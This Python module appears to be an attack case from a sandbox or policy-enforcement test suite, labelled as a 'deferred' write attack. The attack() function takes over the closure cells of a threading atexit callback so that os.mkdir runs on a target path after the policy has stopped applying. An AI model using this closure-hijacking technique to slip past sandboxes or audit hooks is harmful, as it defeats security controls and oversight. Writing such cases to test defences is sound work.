"""What the library has registered itself is given other things to call."""
CATEGORY = "deferred"
REACH = "write"
SILENT = "There is no closure under a policy."

import os
import threading

from . import payload


def attack():
    import concurrent.futures.thread
    call = threading._threading_atexits[-1]
    cells = dict(zip(call.__code__.co_freevars, call.__closure__))
    cells["func"].cell_contents = os.mkdir
    cells["arg"].cell_contents = (payload.TARGET,)
